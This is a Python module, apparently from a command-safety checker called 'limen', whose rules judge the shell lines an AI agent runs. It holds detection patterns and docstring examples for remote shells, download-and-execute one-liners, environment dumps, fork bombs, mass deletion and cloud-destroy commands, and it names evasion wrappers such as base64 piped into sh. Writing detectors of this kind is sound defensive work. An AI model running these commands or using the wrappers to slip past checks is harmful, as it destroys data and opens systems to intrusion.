"""Objective rules over the commands a shell line runs (as flattened by `limen.normalize.shell`).

Each rule looks at every `Command`, however it was reached (`sudo`, `bash -c`, `eval`, base64 into `sh`,
`find -exec`, `xargs`, an interpreter's `os.system`, `git -c core.pager=`, `vim -c '!'`, `npx`, a container's
command through its mounts), so spelling tricks do not change the verdict. What a command is (a deleter, a
sender, an infrastructure CLI, a database client...) comes from the program table, `limen.facts.programs`,
asked by role: no rule keeps a list of command names of its own.

Decisions worth knowing:
- A recursive delete BLOCKs only when it reaches `/`, the home directory, the workspace root, a system
  directory, one of their parents, or `*` there; `rm -rf build`, `node_modules`, `.venv` stay quiet.
- `find ... -delete` (or `-exec rm`, `| xargs rm`) inside the workspace or a scratch directory is ordinary,
  and so is a filtered one in any other subdirectory; a filtered sweep of `/`, the home or a system directory
  is a bulk operation (AUTH); without any filter at a dangerous root it is destructive (BLOCK). `xargs rm`
  fed by anything but such a find (`ls`, `cat list`, stdin), or `rm $(...)`, is unbounded: AUTH.
- Force-pushes: to `main`/`master`/`trunk`/`develop`/`release*`/`production`, or with no explicit branch,
  BLOCK; to any other branch AUTH (it still rewrites shared history); `--force-with-lease` to a feature branch
  is quiet. `git reset --hard` and `git clean -x/-d` AUTH (they destroy uncommitted work).
- Remote shells (`/dev/tcp` with a shell, `nc -e`, `socat exec:`, a shell piped through a network tool,
  interpreter socket-plus-shell one-liners) BLOCK as `remote_shell`; listeners, raw TCP clients, terminal
  upgrades (`stty raw -echo`, `pty.spawn`), `ssh -R` tunnels AUTH.
- Environment dumps AUTH, BLOCK when the same line sends data out; `env | grep DISPLAY` (a harmless name,
  no `-v`) stays quiet.
- `defence_evasion` (history, timestamps, clock, logs, invisible names) and `unsafe_permissions`
  (world-writable or setuid modes) are AUTH: each has ordinary uses, none belongs in an agent's routine.
- Destruction beyond rm, from the table's `destroys_all`/`destroys_one` patterns: destroying an environment or
  a store (`terraform destroy`, `pulumi destroy`, `kubectl delete ns`/`--all`, `aws s3 rb`/`rm --recursive`,
  `gcloud projects delete`, `az group delete`, `gh repo delete`, `dropdb`) BLOCKs; deleting one resource
  (`helm uninstall`, `kubectl delete deploy x`, cloud `... delete`, `docker volume prune`) asks; `terraform
  plan -destroy`, `kubectl delete pod x` stay quiet; what deletes a machine's own state (`destroys_there`:
  `docker compose down -v`) asks when the line runs on another machine (over ssh), not here. SQL
  `DROP`/`TRUNCATE`, `DELETE` or `UPDATE` without `WHERE` (or `WHERE 1=1`), `ALTER TABLE ... DROP COLUMN` in
  any statement, comments and strings aside, BLOCKs through a networked client and asks through a local-file
  one (`sqlite3`). `kill -1` and `kill -9 -1` BLOCK.
  Disk tools BLOCK on a device (`/dev/...`, however reached) and stay quiet on an image file (`mkfs.ext4
  disk.img`).
- A container given the host (`--privileged`, `--pid/--net=host`, escape capabilities, devices, the engine
  socket, a mount of `/`, the home or a system folder) is `unsafe_permissions`: AUTH, BLOCK in strict.
"""

from __future__ import annotations

import itertools
import math
import os
import re
from collections.abc import Callable, Iterable, Iterator, Sequence
from contextlib import suppress
from functools import lru_cache
from itertools import islice, pairwise

from limen.context import Context
from limen.facts.hosts import official_install, project_domain, tenant_host
from limen.facts.paths import (
    BUILD_OUTPUT_FOLDERS,
    CACHE_FOLDER,
    SCRATCH_ROOTS,
    SCRATCH_VARIABLES,
    SERVED_FOLDER,
    VCS_FOLDERS,
    below_home,
    home_folder,
    in_temporary_folder,
)
from limen.facts.programs import (
    CLUSTER_ADMIN,
    ENGINE_SOCKETS,
    ENVIRONMENT_VARIABLE,
    HISTORY_VARIABLES,
    HTTPIE_NAMES,
    LOCAL_CLUSTER_CONTEXT,
    NODE_ACCESS,
    NOT_PRODUCTION,
    OPEN_FEDERATION,
    PREVIEW,
    PRODUCTION,
    PROTECTED_BRANCHES,
    SCRATCH_DATABASE,
    SCRATCH_RESOURCE,
    Role,
    has,
    history_off,
    names,
    only_inspects,
    operands,
    options,
    program,
    reads_from_store,
    socat_local_only,
)
from limen.facts.secrets import secret_variable
from limen.model import (
    FETCHED,
    FETCHED_FILE,
    IGNORED_CHECK,
    RUNS_FILE,
    Action,
    Capability,
    Command,
    Destination,
    Finding,
    HostClass,
    Mode,
    ReasonCode,
    Verdict,
)
from limen.normalize.code import BUILT_COMMAND, FOLLOWED_SOCKET, SCRATCH_DATABASE_NOTE, SQL_NOTE
from limen.normalize.net import host_destination, organisation_network, own_package_source
from limen.normalize.paths import canonical, is_within
from limen.normalize.sql import RowWrite
from limen.normalize.tools import (
    ADMIN_GRANTED,
    BRANCH_DELETED,
    BULK_DELETED,
    BULK_TARGET,
    CONTAINER_DELETED,
    CONTROL_OFF,
    DB_WRITE,
    DESTROYS_STORE,
    KNOWN_TOOLS,
    LASTING_DAYS,
    MACHINE_DESTROYED,
    MADE_PUBLIC,
    OFFSETS_MOVED,
    PRODUCTION_TARGET,
    RETENTION_CUT,
    SQL_WRITE,
    TRASH_EMPTIED,
    lifetime_days,
    retention_cut,
    sql_statements,
    words_of,
)
from limen.prefilter import prefiltered
from limen.rules import rule
from limen.rules.derived import memo
from limen.rules.written import admin_made, applied_manifests, settings_notes

_FILESYSTEM_DELETE = Capability.FILESYSTEM_DELETE.value

# Every name below comes from the program table, asked by role.
SHELL_NAMES = names(Role.SHELL)
_DOWNLOADERS = names(Role.DOWNLOADS)
_NET_TOOLS = names(Role.NETWORK)
_REMOTE_SHELL_TOOLS = names(Role.REMOTE_SHELL)
_DELETERS = names(Role.DELETES)  # rmdir only removes empty directories
_RECURSIVE_DELETERS = names(Role.RECURSIVE)
_POWER = names(Role.POWER)
_RESOLVERS = names(Role.DNS)
_NAME_LOOKUPS = names(Role.DNS, Role.DOWNLOADS)  # commands that resolve the host they are given
_SYSTEM_DIRS = (
    "/",
    "/etc",
    "/usr",
    "/bin",
    "/sbin",
    "/lib",
    "/lib64",
    "/boot",
    "/var",
    "/opt",
    "/sys",
    "/proc",
    "/dev",
    "/root",
    "/home",
    "/srv",
    "/System",
    "/Applications",
    "/Library",
    "/Users",
    "/private",
)
_DEVICE = re.compile(
    r"^/dev/(sd[a-z]|hd[a-z]|vd[a-z]|xvd[a-z]|nvme\d|mmcblk\d|disk\d|rdisk\d|md\d|dm-\d|mapper/|"
    r"loop\d|mem$|kmem$|port$)"
)
# A volume named by its group or pool (LVM's `/dev/vg_data/pg`, `/dev/zvol/tank/v`, `/dev/disk/by-id/x`), not
# one of the folders of terminals, descriptors, shared memory, buses or bash's network paths: what `dd of=` is
# given there is a disk (a redirect there is left to `_DEVICE`: a placeholder path is no volume's name)
_VOLUME = re.compile(
    r"^/dev/(?!(?:pts|pty|fd|shm|mqueue|hugepages|net|input|snd|dri|bus|char|cpu|usb|serial|v4l|vfio|tty|tcp"
    r"|udp)/)[\w.-]+/[\w./-]+$"
)
_FORK_BOMB = re.compile(r"(\S+)\s*\(\)\s*\{[^}]*\1\s*\|\s*\1\s*&")
_FUNCTION_BODY = re.compile(
    r"\(\)\s*\{"
)  # what every fork bomb holds: a cheap test before the back-reference
_SOCKET_CODE = prefiltered(
    r"socket|fsockopen|TCPSocket|TCPServer|TCPClient|IO::Socket|net\.Dial|/inet\d?/(tcp|udp)|"
    r"createConnection|net\.connect|Net\.Sockets|socket_create|stream_socket_client"
)


def _socket_code(text: str) -> bool:
    """Whether a program text opens a socket (`_SOCKET_CODE`): both remote-shell rules ask it of the same
    texts, so a text's answer is kept (up to 64 kB of text)."""
    return _socket_code_cached(text) if len(text) <= 65536 else _SOCKET_CODE.search(text) is not None


@lru_cache(maxsize=64)
def _socket_code_cached(text: str) -> bool:
    return _SOCKET_CODE.search(text) is not None


_SPAWN_CODE = prefiltered(
    r"/bin/(ba|z|da)?sh\b|\bcmd(\.exe)?\b|pty\.spawn|\bdup2\b|\bexec\s*[(\"'`]|\bpopen|"
    r"\bproc_open|\bsubprocess\.|\bsystem\s*[(\"'$]|\bspawn\(|\bshell_exec|\bpassthru|"
    r"exec\.Command|\biex\b|Invoke-Expression|os\.execute|io\.popen|child_process|fdopen"
)
_DOWNLOAD_EXEC_CODE = re.compile(
    r"(iex|Invoke-Expression)\b.{0,80}(DownloadString|DownloadFile|Invoke-WebRequest|"
    r"\biwr\b|Net\.WebClient|\bcurl\b|\bwget\b)|(DownloadString|Invoke-WebRequest|"
    r"\biwr\b).{0,200}\|\s*(iex|Invoke-Expression)\b",
    re.I | re.S,
)
_ENV_CODE = prefiltered(
    r"os\.environ(?!\s*[\[.]\s*(get|\[|setdefault|pop))(?!\s*\[)|process\.env(?!\s*[.\[])|"
    r"%ENV\b(?!\s*\{)|ENV\.to_h|getenv\(\)\s*$|\$_ENV(?!\s*\[)"
)
_PROC_ENVIRON = re.compile(r"/proc/[^/]+/environ")
_INVISIBLE = re.compile("[\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff\U000e0000-\U000e007f]")


_FLAG_WORD = re.compile(r"-[A-Za-z0-9]+")


# `date -s ...` sets the clock; `-s` may follow date's argument-less flags (`-us`), but inside `-Iseconds`
# the letters are `-I`'s argument.
_DATE_SET = re.compile(r"-[uR]*s.*")


def _short_flags(argv: Iterable[str]) -> set[str]:
    flags: set[str] = set()
    for word in argv:
        if word == "--":
            break
        if _FLAG_WORD.fullmatch(word):
            flags.update(word[1:])
    return flags


def _long(argv: Iterable[str]) -> set[str]:
    return {w.split("=", 1)[0] for w in argv if w.startswith("--")}


def _operands(argv: tuple[str, ...]) -> list[str]:
    out: list[str] = []
    ended = False
    for word in argv[1:]:
        if not ended and word == "--":
            ended = True
        elif ended or not word.startswith("-") or word == "-":
            out.append(word)
    return out


@lru_cache(maxsize=16)
def _dangerous_set(home: str, workspace: str) -> frozenset[str]:
    """Directories whose recursive deletion is irreversible on a large scale, with each of their parents
    (deleting a parent deletes them): one set lookup answers `_is_dangerous`."""
    dirs = set(_SYSTEM_DIRS)
    for extra in (home, workspace):
        if extra:
            dirs.add(extra.rstrip("/") or "/")
    found = {"/"}
    for directory in dirs:
        found.add(directory)
        found.update(directory[:i] for i, c in enumerate(directory) if c == "/" and i > 0)
    return frozenset(found)


def _is_dangerous(path: str, action: Action, ctx: Context) -> bool:
    """`path` is a dangerous directory or one of their parents (deleting it deletes them)."""
    return (path.rstrip("/") or "/") in _dangerous_set(ctx.home, ctx.workspace)


def _target(word: str, action: Action, ctx: Context) -> str:
    """The canonical path an operand names; several rules resolve the same operand (a `realpath`, one
    system call per path component), so it is resolved once per action."""
    if word.endswith("/*") or word in ("*", ".*", "*/"):
        word = word[:-2] or "." if word.endswith("/*") else "."
    key = (word, action.cwd or ctx.workspace or "/", ctx.home)
    facts = memo(action)
    path: str | None = facts.get(key)
    if path is None:
        path = facts[key] = canonical(*key)
    return path


def _after_cd(word: str, action: Action, ctx: Context) -> list[str]:
    """`cd / && rm -rf *`: a relative operand resolved against each directory the line changes into."""
    if word.startswith(("/", "~")):
        return []
    dirs = [n[3:] for n in action.notes if n.startswith("cd:")]
    stripped = word[:-2] or "." if word.endswith("/*") else ("." if word in ("*", ".*", "*/") else word)
    return [canonical(stripped, d, ctx.home) for d in dirs]


def _path_class(path: str, ctx: Context) -> str:
    """A path as the explanation may name it: its class, never the operand (which may carry a secret)."""
    path = path.rstrip("/") or "/"
    if path == "/":
        return "the root folder"
    if ctx.home and path == ctx.home.rstrip("/"):
        return "the home folder"
    if ctx.workspace and path == ctx.workspace.rstrip("/"):
        return "the workspace"
    if path in _SYSTEM_DIRS:
        return f"system folder {path}"  # one of a fixed list, never the operand's own text
    if path in _dangerous_set(ctx.home, ctx.workspace):
        return "a folder holding the home folder, workspace or a system folder"
    if ctx.home and is_within(ctx.home, path):
        return "a folder in the home folder"
    return "a folder"


def _finding(code: ReasonCode, verdict: Verdict, risk: int, detail: str) -> Finding:
    return Finding(code, verdict, risk, detail[:160])


def _is_shell(command: Command) -> bool:
    return command.name in SHELL_NAMES


def _runs_code(name: str) -> bool:
    """An interpreter, analysed or not (`python3.11`, `node18`, `pwsh` included)."""
    entry = program(name)
    return entry is not None and bool(entry.roles & _CODE_ROLES)


_CODE_ROLES = frozenset({Role.INTERPRETER, Role.SCRIPT_HOST})


def _texts(action: Action) -> tuple[str, ...]:
    """Program text a line carries: interpreter arguments and payloads (echo text, heredocs, decoded data)."""
    facts = memo(action)
    texts: tuple[str, ...] | None = facts.get(_texts)
    if texts is None:
        code = (" ".join(c.argv[1:]) for c in action.commands if _runs_code(c.name))
        texts = facts[_texts] = (*code, *action.payloads)
    return texts


# --------------------------------------------------------------------------- destructive_command


_EMPTY_VAR_ROOT = re.compile(r"^\$\{?\w+\}?/\*?$")
# An operand that starts with an environment variable (upper case, by convention; a loop's or `read`'s
# variable is lower case): `$PGDATA/pg_wal`, `${BACKUP_ROOT}`
_ENVIRONMENT_ROOT = re.compile(r"^\$\{?([A-Z][A-Z0-9_]*)\}?(?:/|$)")


def _recursive_delete(command: Command, action: Action, ctx: Context) -> Finding | None:
    always = command.name in _RECURSIVE_DELETERS  # `rimraf DIR` needs no -r
    if command.name not in ("rm", "srm") and command.name != "rmdir" and not always:
        return None
    flags = _short_flags(command.argv[1:])
    if "--no-preserve-root" in command.argv:
        return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.BLOCK, 98, "rm --no-preserve-root")
    if not ({"r", "R"} & flags or "--recursive" in _long(command.argv) or always):
        return _every_entry_delete(command, action, ctx)
    worst: Finding | None = None
    for word in _operands(command.argv):
        if _EMPTY_VAR_ROOT.match(word):
            worst = _finding(
                ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 75, "a variable path that is / when it is empty"
            )
            continue
        resolved = _target(word, action, ctx) if "$" in word and "`" not in word else ""
        unknown = _ENVIRONMENT_ROOT.match(word) if "$" in resolved else None
        if (
            unknown is not None
            and worst is None
            and unknown.group(1) not in SCRATCH_VARIABLES
            and "$" not in word[unknown.end() :]  # (`$DIR/$x`: a name only known at run time, judged below)
        ):
            # `rm -rf "$PGDATA"/pg_wal/*`: a folder the environment names, with no value here (where it has
            # one, the folder it names is judged as written out)
            detail = f"recursive delete of a folder ${unknown.group(1)} names, whose value is not known here"
            worst = _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 70, detail)
        if ("$" in word and (not resolved or "$" in resolved)) or "`" in word:
            # `ls ~ | while read d; do rm -rf ~/$d; done`: a name only known at run time, directly inside
            # the home folder, the root or a system folder, is one of their entries: any of them.
            head = re.split(r"[$`]", word, maxsplit=1)[0]
            parent = head.rsplit("/", 1)[0] if "/" in head else ""
            last = "/" not in word[len(head) :].rstrip("/")  # the run-time part is the last component
            found = any(v.startswith("find ") for v in command.via)  # `{}` is a match anywhere below
            if head.endswith("/") and last and not found and worst is None and (parent or head == "/"):
                where = _target(parent or "/", action, ctx)
                if _is_dangerous(where, action, ctx) and not is_within(where, ctx.workspace):
                    worst = _finding(
                        ReasonCode.DESTRUCTIVE_COMMAND,
                        Verdict.AUTH,
                        75,
                        f"recursive delete of a name built at run time in {_path_class(where, ctx)}",
                    )
            continue
        target = _target(word, action, ctx)
        hit = next(
            (t for t in (target, *_after_cd(word, action, ctx)) if _is_dangerous(t, action, ctx)), None
        )
        if hit is not None:
            return _finding(
                ReasonCode.DESTRUCTIVE_COMMAND,
                Verdict.BLOCK,
                96,
                f"recursive delete of {_path_class(hit, ctx)}",
            )
        found = any(v.startswith("find ") for v in command.via)  # `{}` is a match, never a whole home
        holder, _, folder = target.rstrip("/").rpartition("/")
        if folder in _HISTORY_STORES and holder.rpartition("/")[2] in VCS_FOLDERS:  # `.git/objects`: the same
            holder, _, folder = holder.rpartition("/")
        own = is_within(ctx.workspace, holder or "/") and not found
        elsewhere = (
            bool(ctx.workspace)
            and not is_within(holder or "/", ctx.workspace)
            and not in_temporary_folder(holder, ctx.home)  # (a build's clone in /tmp: scratch)
        )
        if folder in VCS_FOLDERS and worst is None and (own or elsewhere):
            # the project's own repository, or another project's (not a clone vendored inside this one): its
            # unpushed history goes with it
            worst = _finding(
                ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 70, "recursive delete of a repository's history"
            )
        for place in (target, *_after_cd(word, action, ctx)):
            home_delete = _home_folder_delete(place, ctx, whole=not found)
            if home_delete is not None and home_delete.verdict is Verdict.BLOCK:
                return home_delete
            worst = home_delete or worst
        if worst is None and not found and _beyond_work(target, ctx):  # (a `find` match is filtered)
            what = f"recursive delete of {target[:60]}, outside the project, the home and temporary folders"
            worst = _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 70, what)
    return worst


def _beyond_work(target: str, ctx: Context) -> bool:
    """A path that is neither the project's, a user's own (in a home folder), nor temporary: a server's
    site (`/var/www/app/shared`), a mounted volume, another program's data (`/srv`, `/opt`, `/var/lib/x`)."""
    if not target.startswith("/") or target.rstrip("/").count("/") < 2:
        return False  # a relative name left unresolved, or a top folder (`_is_dangerous` judges those)
    path = target.rstrip("/") + "/"
    if ctx.workspace and is_within(target, ctx.workspace):
        return False
    home = home_folder(target, ctx.home)
    if (ctx.home and is_within(target, ctx.home)) or (home and not _WSL_DRIVE.fullmatch(home)):
        return False  # a user's own files (a whole home, or a folder right in it, is `_home_folder_delete`'s)
    if home and path.rstrip("/").rsplit("/", 1)[-1].lower() in BUILD_OUTPUT_FOLDERS:
        return False  # `rd /s /q D:\Proj\Shooter\Intermediate`: a build's output on a drive, made again
    return not path.startswith(SCRATCH_ROOTS) and "/node_modules/" not in path


# A Windows drive as WSL mounts it (`/mnt/d`): a disk of its own, whose folders hold any program's data
# (`D:\Eaglesoft\Data`) as well as the user's projects, not one user's home
_WSL_DRIVE = re.compile(r"/mnt/[a-z]")


def _home_folder_delete(target: str, ctx: Context, *, whole: bool = True) -> Finding | None:
    """Another user's whole home folder deleted (`rm -rf /home/dev`; the running user's is a dangerous
    folder; `whole`: False for a `find` match, whose `{}` stands for a name below its root): BLOCK.
    Everything in a folder directly in a home folder deleted (`rm -rf ~/Documents`, `rm -rf
    /Users/alice/Documents`, an unfiltered `find ~/Documents -delete`): AUTH; a credential store
    (`~/.ssh`, `~/.aws`), lost for good: BLOCK."""
    home = home_folder(target, ctx.home)  # the running user's or another user's
    if whole and home and home == target.rstrip("/") and home != ctx.home.rstrip("/"):
        return _finding(
            ReasonCode.DESTRUCTIVE_COMMAND, Verdict.BLOCK, 96, "recursive delete of a home folder"
        )
    if not home or os.path.dirname(target) != home or is_within(ctx.workspace, target):
        return None
    from limen.rules.paths import is_secret_file

    if is_secret_file(target):  # `rm -rf ~/{.ssh,.aws}`: keys and credentials, lost for good
        return _finding(
            ReasonCode.DESTRUCTIVE_COMMAND, Verdict.BLOCK, 92, "recursive delete of a credential store"
        )
    return _finding(
        ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 70, "recursive delete of a folder in the home folder"
    )


_EVERY_ENTRY = re.compile(r"^[*?.]*\*[*?.]*$")  # `*`, `.*`, `*.*`: a glob that names every entry


def _every_entry_delete(command: Command, action: Action, ctx: Context) -> Finding | None:
    """`rm ~/*`, `rm -f /etc/*`: no `-r`, but every file directly in the home folder, the root or a
    system folder at once (the folders survive, their files do not)."""
    if command.name == "rmdir":
        return None
    for word in _operands(command.argv):
        head, _, last = word.rstrip("/").rpartition("/")
        deep = "/**/" in word or word.startswith("**/")
        if deep:  # `rm ~/**/*.py` (a recursive glob): the files it names at every depth below `~`
            head = word.split("**/", 1)[0].rstrip("/") or ("/" if word.startswith("/") else ".")
        elif not head:
            continue
        elif not _EVERY_ENTRY.match(last):
            if _data_kind(last) and "find -exec" not in command.via:
                where = _target(head, action, ctx)  # `rm /data/run42/*.h5`: that data, every file of its kind
                if _beyond_work(where, ctx):
                    detail = f"delete of every {last[:40]} file in {where[:60]}, outside the project"
                    return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 70, detail)
            continue
        if deep and _EVERY_ENTRY.match(last):  # `rm ~/projects/**/*`: every file below, as `rm -rf` does
            found = _recursive_delete(Command(("rm", "-rf", head), "rm", command.via), action, ctx)
            if found is not None:
                return found
        where = _target(head, action, ctx)
        if deep and _is_dangerous(where, action, ctx) and not is_within(where, ctx.workspace):
            return _finding(
                ReasonCode.DESTRUCTIVE_COMMAND,
                Verdict.AUTH,
                75,
                f"delete of matching files at every depth of {_path_class(where, ctx)}",
            )
        if deep:
            continue
        if _is_dangerous(where, action, ctx) and not is_within(where, ctx.workspace):
            return _finding(
                ReasonCode.DESTRUCTIVE_COMMAND,
                Verdict.AUTH,
                75,
                f"delete of every file in {_path_class(where, ctx)}",
            )
    return None


_FIND_NON_FILTERS = frozenset(
    {
        "-type",
        "-xtype",
        "-maxdepth",
        "-mindepth",
        "-depth",
        "-xdev",
        "-mount",
        "-follow",
        "-print",
        "-print0",
        "-delete",
        "-exec",
        "-execdir",
        "-ok",
        "-okdir",
        "-ls",
        "-prune",
        "-o",
        "-or",
        "-a",
        "-and",
        "-not",
        "-true",
        "-noleaf",
        "-daystart",
        "-regextype",
        "-nowarn",
        "-warn",
        "-ignore_readdir_race",
        "-quit",
    }
)


# A folder named for scratch (`/srv/app/tmp`, `/var/www/cache`), find's ages in minutes, and an age under a
# day (`+0` to `+1439`)
_SCRATCH_NAMED = re.compile(r"/(?:tmp|temp|cache|caches|sessions?|spool)/", re.I)
_MINUTE_AGE_TESTS = frozenset({"-amin", "-cmin", "-mmin"})
_IN_THE_LAST_DAY = re.compile(r"\+(?:[0-9]|[1-9][0-9]|[1-9][0-9]{2}|1[0-3][0-9]{2}|14[0-3][0-9])")


def _find_filters(
    argv: tuple[str, ...], *, negation_narrows: bool = False, minutes_narrow: bool = True
) -> bool:
    """The find expression narrows what it matches (any test beyond type and depth; -exec arguments aside).
    A negated test (`-not -name proc`, `! ( -name a -o -name b )`) leaves out a few and keeps the rest:
    no narrowing. Unless `minutes_narrow`, an age under a day (`-mmin +60`) is none either: in a folder
    of kept data, older than an hour is everything but what is being written now."""
    in_exec = False
    negated = 0  # > 0: inside a negation (the next test, or a parenthesised group and its depth)
    for i, word in enumerate(argv[1:], 1):
        if in_exec:
            in_exec = word not in (";", "+")
        elif word in ("-exec", "-execdir", "-ok", "-okdir"):
            in_exec = True
        elif (
            not minutes_narrow
            and word in _MINUTE_AGE_TESTS
            and _IN_THE_LAST_DAY.fullmatch(argv[i + 1] if i + 1 < len(argv) else "")
        ):
            continue
        elif word in ("!", "-not"):
            negated = max(negated, 1)
        elif word == "(" and negated:
            negated += 1
        elif word == ")" and negated > 1:
            negated = 0 if negated == 2 else negated - 1
        elif word.startswith("-") and len(word) > 2 and word not in _FIND_NON_FILTERS:
            if not negated or negation_narrows:
                return True
            if negated == 1:
                negated = 0  # `-not -name proc`: that one test was left out
    return False


_NAME_TESTS = frozenset({"-path", "-ipath", "-name", "-iname", "-wholename"})


# Tests that pick files by age, size, owner or content: a clean-up of some of a kind (`-mtime +7`), not all
_NARROWING_TESTS = re.compile(
    r"-(?:[amc](?:time|min)|newer\w*|size|empty|user|group|uid|gid|links|perm|regex)$"
)


def _kind_only(argv: tuple[str, ...]) -> str:
    """The kinds of data file a find selects by when it selects by nothing else (`-name '*.h5'`,
    `-iname '*.parquet' -o -name '*.csv'`; types and depths aside), space-separated, or "" when a name is
    not a kind (`-name restore.php`, `'*prefs copy'`), the kind is a by-product (`*.tmp`, `*.log`), a test
    narrows the selection by age, size, owner or content, or a program run as a test decides (`-exec grep
    -q X {} \\;`)."""
    names = [argv[i + 1] for i, w in enumerate(argv[:-1]) if w in ("-name", "-iname")]
    if not names or any(w in ("!", "-not") for w in argv) or any(_NARROWING_TESTS.match(w) for w in argv):
        return ""
    if sum(w in _EXECS for w in argv) > (0 if "-delete" in argv else 1):
        return ""
    return " ".join(names) if all(_data_kind(name) for name in names) else ""


def _whole_folders_swept(argv: tuple[str, ...]) -> bool:
    """A find that selects by place only (`-path '*/cur/*'`, a type): no age, size or owner test, no name
    of a by-product, no negation, and no program of its own deciding."""
    from limen.facts.paths import DISPOSABLE_EXTENSIONS

    if any(_NARROWING_TESTS.match(w) or w in ("!", "-not", "-exec", "-execdir", "-ok") for w in argv):
        return False
    named = [argv[i + 1] for i, w in enumerate(argv[:-1]) if w in _NAME_TESTS]
    if not any(w in ("-path", "-ipath", "-wholename") for w in argv):
        return False  # (a name test alone is `_kind_only`'s)
    return not any(n.lower().rstrip("*").endswith(tuple(DISPOSABLE_EXTENSIONS)) for n in named)


def _data_kind(name: str) -> bool:
    """`*.h5`, `*.parquet`, `*.tar.gz`: every file of one kind of data; not a by-product's (`*.tmp`)."""
    from limen.facts.paths import DISPOSABLE_EXTENSIONS

    kind = re.fullmatch(r"\*(\.[A-Za-z0-9]\w*(?:\.\w+)?)", name)
    return kind is not None and kind.group(1).lower() not in DISPOSABLE_EXTENSIONS


def _source_glob(argv: tuple[str, ...]) -> str:
    """The program-code extensions (`facts.paths.PROGRAMS`) a find's name tests select (`-name '*.py'`,
    `-name '*.rs' -o -name '*.py'`), space-separated, or "": a find narrowed to nothing but languages'
    files matches the project's code in them."""
    from limen.facts.paths import PROGRAMS

    # a folder or name left out (`-not -path './vendor/*'`) spares that much: the rest of the code still goes
    kept: list[str] = []
    skip = 0
    for i, word in enumerate(argv):
        if skip:
            skip -= 1
        elif word in ("!", "-not") and argv[i + 1 : i + 2] and argv[i + 1] in _NAME_TESTS:
            skip = 2
        else:
            kept.append(word)
    argv = tuple(kept)
    names = [argv[i + 1] for i, w in enumerate(argv[:-1]) if w in ("-name", "-iname")]
    if not names or any(w in ("-path", "-newer", "-mtime", "-size", "-regex", "!", "-not") for w in argv):
        return ""
    if len(names) > 1 and argv.count("-o") + argv.count("-or") != len(names) - 1:
        return ""  # names joined by -o (`-name '*.rs' -o -name '*.py'`), or not a plain alternative
    found = [re.fullmatch(r"\*(\.\w+)", name) for name in names]
    extensions = [m.group(1) for m in found if m is not None and m.group(1).lower() in PROGRAMS]
    return " ".join(extensions) if len(extensions) == len(names) else ""


def _find_roots(command: Command, action: Action, ctx: Context) -> list[str]:
    roots: list[str] = []
    for word in command.argv[1:]:
        if word in ("-H", "-L", "-P"):
            continue
        if word.startswith(("-", "(", "!", ")")):
            break
        roots.append(canonical(word, action.cwd or "/", ctx.home))
    return roots or [canonical(".", action.cwd or "/", ctx.home)]


def _find_deletes(command: Command) -> bool:
    r"""The find deletes its matches, or empties them: `-delete`, `-exec rm {} +`, `-exec truncate -s 0 {} +`,
    `-exec sh -c ': > "$1"' _ {} \;`."""
    argv = command.argv
    if "-delete" in argv:
        return True
    for i, word in enumerate(argv[:-1]):
        if word not in ("-exec", "-execdir", "-ok", "-okdir"):
            continue
        end = next((j for j in range(i + 1, len(argv)) if argv[j] in (";", "+")), len(argv))
        inner, name = argv[i + 1 : end], argv[i + 1].rsplit("/", 1)[-1]
        if "{}" not in inner:  # `-exec rm {}.bak` deletes a derived name, not the matches
            continue
        if name in _DELETERS or (name == "truncate" and _EMPTIED_SIZE.search(" ".join(inner))):
            return True
        if name in SHELL_NAMES and any(_OVERWRITES_ARGUMENT.search(w) for w in inner[1:]):
            return True
        if name in ("sed", "gsed") and "{}" in _emptied(name, list(inner)):
            return True  # `-exec sed -i 's/.*//' {} +`: every line of every match blanked
    return False


def _emptied(name: str, argv: list[str]) -> list[str]:
    from limen.normalize.shell import emptied_operands

    return emptied_operands(name, argv)


_EMPTIED_SIZE = re.compile(r"(?:^|\s)(?:-s\s*|--size[= ])0(?:\s|$)")
# A shell string that overwrites the file it is handed: `> "$1"`, `>$0`, `> {}`, `> "$@"`.
_OVERWRITES_ARGUMENT = re.compile(r'(?<![>&0-9])>\|?\s*["\']?(?:\$\{?[0-9@]\}?|\{\})(?=["\'\s;|&)]|$)')


_FD_EXEC = frozenset({"-x", "--exec", "-X", "--exec-batch"})
# what narrows fd's matches (a type does not: `fd -t d . / -x rm -rf` deletes every folder it finds)
_FD_FILTERS = frozenset({"-e", "--extension", "-g", "--glob", "-S", "--size"})
_FD_VALUED = frozenset(
    {*_FD_FILTERS, "-t", "--type", "-d", "--max-depth", "--min-depth", "-E", "--exclude", "-j", "-c"}
)


def _fd_sweep(command: Command, action: Action, ctx: Context) -> Finding | None:
    """`fd . ~ -x rm -rf`, `fd -H '' / -X rm`: a delete of every match under a dangerous root, unfiltered."""
    argv = list(command.argv[1:])
    at = next((i for i, w in enumerate(argv) if w in _FD_EXEC), None)
    if at is None or at + 1 >= len(argv) or argv[at + 1].rsplit("/", 1)[-1] not in _DELETERS:
        return None
    words: list[str] = []
    filtered = False
    skip = False
    for word in argv[:at]:
        if skip:
            skip = False
            continue
        if word in _FD_VALUED:
            filtered = filtered or word in _FD_FILTERS
            skip = True
        elif not word.startswith("-"):
            words.append(word)
    pattern, roots = (words[0], words[1:]) if words else ("", [])
    filtered = filtered or pattern not in ("", ".", "^", ".*", "^.*$")
    targets = [_target(r, action, ctx) for r in roots] or [action.cwd or ctx.workspace or "/"]
    if not filtered and any(_is_dangerous(t, action, ctx) for t in targets):
        return _finding(
            ReasonCode.DESTRUCTIVE_COMMAND, Verdict.BLOCK, 95, "fd deletes every match, unfiltered"
        )
    return None


_WALK_BUDGET = 5000  # entries looked at before a folder is assumed to hold what is asked


def _holds(roots: list[str], wanted: Callable[[str], bool]) -> bool:
    """Some entry (file or folder) under the roots has a name `wanted` accepts: a sweep of a language's files
    destroys code, a sweep of `.git` folders history, only where there is some. Past the budget (or on an
    error) the answer is yes, as it most likely is."""
    seen = 0
    for root in roots:
        try:
            for _, folders, files in os.walk(root):
                if any(map(wanted, files)) or any(map(wanted, folders)):
                    return True
                seen += len(files) + len(folders)
                if seen > _WALK_BUDGET:
                    return True
        except OSError:
            return True
    return False


